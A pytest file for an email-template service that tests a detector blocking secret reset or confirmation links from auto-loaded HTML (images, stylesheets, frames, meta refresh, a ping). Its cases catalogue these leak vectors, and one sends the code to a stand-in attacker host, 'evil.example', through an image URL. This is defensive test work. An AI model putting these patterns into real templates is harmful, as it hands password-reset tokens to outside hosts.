"""Issue #11 item 5: a secret template variable (a reset or confirmation link) may not be put where a mail
client loads it by itself (an image, a stylesheet, a frame ...): that would send the code to another host.
Links stay allowed. The use case is tested over small in-memory fakes; the detector with the real Jinja."""

from __future__ import annotations

from dataclasses import replace
from datetime import datetime

import pytest

from mailroom.adapters.templates.builtin import load_builtin_sets
from mailroom.adapters.templates.jinja import JinjaTemplateRenderer
from mailroom.domain.permissions import EDIT_TEMPLATES, READ_TEMPLATES, SYSTEM, Subject
from mailroom.domain.templates import Template, TemplateKind, TemplateSet, TemplateVersion, is_secret_name
from mailroom.errors import PermissionDenied, SecretVariableExposed, TemplateNotFound, TemplateSetNotFound
from mailroom.usecases.templates import BuiltinSet, TemplateUseCases

SECRET = frozenset({"confirm_url"})


def exposures(html: str, secrets: frozenset[str] = SECRET) -> list[tuple[int, str]]:
    template = Template(set_id="s", name="t", locale="en", subject="s", html=html,
                        variables={"confirm_url": "https://x.example/?code=1", "logo": "https://x.example/l.png"})
    return [(e.line, e.where) for e in JinjaTemplateRenderer().exposed_secrets(template, [], secrets)]


@pytest.mark.parametrize(("html", "where"), [
    ('<img src="{{ confirm_url }}">', "<img src>"),
    ("<p>\n<img alt=x\n src='{{ confirm_url }}'>", "<img src>"),
    ('<img srcset="{{ confirm_url }} 2x">', "<img srcset>"),
    ('<div style="background:url({{ confirm_url }})">', "style"),
    ("<style>\nbody { background: url('{{ confirm_url }}') }</style>", "<style>"),
    ('<style>@import "{{ confirm_url }}";</style>', "<style>"),
    ('<link rel=stylesheet href="{{ confirm_url }}">', "<link href>"),
    ('<table background="{{ confirm_url }}">', "<table background>"),
    ('<video poster="{{ confirm_url }}">', "<video poster>"),
    ('<video src="{{ confirm_url }}">', "<video src>"),
    ('<audio src="{{ confirm_url }}">', "<audio src>"),
    ('<object data="{{ confirm_url }}">', "<object data>"),
    ('<iframe src="{{ confirm_url }}">', "<iframe src>"),
    ('<img src="{{ confirm_url|e }}">', "<img src>"),
    ('<img src="https://evil.example/?c={{ confirm_url|urlencode }}">', "<img src>"),
    ('{% set u = confirm_url %}<img src="{{ u }}">', "<img src>"),
    ('{% with u = confirm_url ~ "" %}<img src="{{ u }}">{% endwith %}', "<img src>"),
    ('{% macro pic(p) %}<img src="{{ p }}">{% endmacro %}{{ pic(confirm_url) }}', "<img src>"),
    ('<IMG SRC="{{ confirm_url }}">', "<img src>"),
    ('<img src={{ confirm_url }}>', "<img src>"),
    ('<svg><image href="{{ confirm_url }}"/></svg>', "<image href>"),
    ('<meta http-equiv="refresh" content="0;url={{ confirm_url }}">', "<meta content>"),
    ('<a ping="{{ confirm_url }}" href="/">x</a>', "<a ping>"),
    ('<img {% if first_name == "Ann" %}alt{% else %}src{% endif %}="{{ confirm_url }}">', "<img altsrc>"),
    ('<img {{ "src" }}="{{ confirm_url }}">', "<img src>"),  # seen in the rendered HTML
])
def test_a_secret_in_anything_loaded_automatically_is_found(html: str, where: str) -> None:
    found = exposures(html)
    assert found and found[0][1] == where, found


def test_the_line_of_the_secret_is_reported() -> None:
    assert exposures('<p>hi</p>\n\n<p>\n<img src="{{ confirm_url }}"></p>')[0][0] == 4


@pytest.mark.parametrize("html", [
    '<a href="{{ confirm_url }}">reset</a>',
    "<p>{{ confirm_url }}</p>",
    '<img src="{{ logo }}" alt="{{ confirm_url }}">',
    '<a href="{{ confirm_url }}"><img src="{{ logo }}"></a>',
    "<style>p { color: red }</style><p>{{ confirm_url }}</p>",
    '<a href="{{ confirm_url }}" title="{{ confirm_url }}" data-link="{{ confirm_url }}">reset</a>',
    "{{ '%d%% of 5000000'|format(3) }}<a href='{{ confirm_url }}'>x</a>",
])
def test_links_text_and_other_variables_stay_allowed(html: str) -> None:
    assert exposures(html) == []


def test_the_builtin_codes_and_links_are_secret() -> None:
    builtin = load_builtin_sets()[0]
    reset = next(t for t in builtin.templates if t.name == "password_reset")
    assert "confirm_url" in reset.secret_variables
    assert is_secret_name("confirm_url") and is_secret_name("reset_code") and not is_secret_name("first_name")


# --- the use case over in-memory fakes -------------------------------------------------------------


class MemoryTemplateStore:
    def __init__(self) -> None:
        self.sets: dict[str, TemplateSet] = {}
        self.templates: dict[tuple[str, str, str], Template] = {}

    def list_sets(self) -> list[TemplateSet]:
        return list(self.sets.values())

    def get_set(self, set_id: str) -> TemplateSet:
        if set_id not in self.sets:
            raise TemplateSetNotFound(set_id)
        return self.sets[set_id]

    def save_set(self, template_set: TemplateSet) -> None:
        self.sets[template_set.id] = template_set

    def delete_set(self, set_id: str) -> None:
        self.sets.pop(set_id, None)

    def list_templates(self, set_id: str) -> list[Template]:
        return [t for t in self.templates.values() if t.set_id == set_id]

    def get_template(self, set_id: str, name: str, locale: str) -> Template:
        try:
            return self.templates[(set_id, name, locale)]
        except KeyError:
            raise TemplateNotFound(set_id, name, locale) from None

    def save_template(self, template: Template, *, saved_by: str | None, now: datetime,
                      only_if_missing: bool = False) -> Template:
        old = self.templates.get(template.key)
        if old is not None and only_if_missing:
            return old
        # Like the SQL store, the secret declaration is not stored: it comes from the shipped set.
        saved = replace(template, version=(old.version if old else 0) + 1, updated_at=now, updated_by=saved_by,
                        secret_variables=frozenset())
        self.templates[template.key] = saved
        return saved

    def delete_template(self, set_id: str, name: str, locale: str | None) -> int:
        return 0

    def versions(self, set_id: str, name: str, locale: str) -> list[TemplateVersion]:
        return []


class FixedClock:
    def now(self) -> datetime:
        return datetime(2026, 1, 1).astimezone()


def use_cases() -> TemplateUseCases:
    def send(*args: object) -> str:
        raise AssertionError("nothing is sent here")

    builtin = BuiltinSet(
        template_set=TemplateSet(id="app", name="App"),
        templates=(Template(set_id="app", name="invite", locale="en", subject="Join", html="<p>hi</p>",
                            variables={"join_link": "https://app.example/join?c=1"},
                            secret_variables=frozenset({"join_link"})),
                   Template(set_id="app", name="frame", locale="en", kind=TemplateKind.PARTIAL,
                            html="{% block content %}{% endblock %}")))
    cases = TemplateUseCases(store=MemoryTemplateStore(), renderer=JinjaTemplateRenderer(), send=send,  # type: ignore[arg-type]
                             clock=FixedClock(), builtin_sets=[builtin])
    cases.ensure_builtin()
    return cases


def test_saving_a_secret_in_an_image_is_refused_with_its_line() -> None:
    cases = use_cases()
    invite = cases.get_template(SYSTEM, "app", "invite", "en")
    with pytest.raises(SecretVariableExposed) as caught:
        cases.save_template(SYSTEM, replace(invite, html='<p>Hi</p>\n<img src="{{ join_link }}">'))
    assert caught.value.line == 2 and caught.value.variable == "join_link"
    assert "line 2" in str(caught.value) and "<img src>" in str(caught.value)
    cases.save_template(SYSTEM, replace(invite, html='<a href="{{ join_link }}">join</a>'))  # a link is fine


def test_a_partial_may_not_expose_a_secret_either() -> None:
    cases = use_cases()
    frame = cases.get_template(SYSTEM, "app", "frame", "en")
    with pytest.raises(SecretVariableExposed):
        cases.save_template(SYSTEM, replace(frame, html='<img src="{{ join_link }}">{% block content %}{% endblock %}'))


def test_a_secret_moved_into_an_image_through_a_block_of_the_layout_is_refused() -> None:
    cases = use_cases()
    frame = cases.get_template(SYSTEM, "app", "frame", "en")
    cases.save_template(SYSTEM, replace(frame, html='<img src="{% block pic %}{% endblock %}">'
                                                    '{% block content %}{% endblock %}'))
    invite = cases.get_template(SYSTEM, "app", "invite", "en")
    with pytest.raises(SecretVariableExposed):
        cases.save_template(SYSTEM, replace(invite, html='{% extends "frame.html" %}'
                                                         '{% block pic %}{{ join_link }}{% endblock %}'))


def test_previewing_posted_content_needs_edit_while_the_saved_template_needs_read() -> None:
    cases = use_cases()
    reader = Subject("reader", frozenset({READ_TEMPLATES}))
    assert cases.preview(reader, "app", "invite").subject == "Join"
    assert cases.preview_saved(reader, "app", "frame", "en").html == ""
    edit = Template(set_id="app", name="invite", locale="en", subject="{{ 7 * 6 }}", text="x")
    with pytest.raises(PermissionDenied):
        cases.preview(reader, "app", "invite", template=edit)
    editor = Subject("editor", frozenset({READ_TEMPLATES, EDIT_TEMPLATES}))
    assert cases.preview(editor, "app", "invite", template=edit).subject == "42"
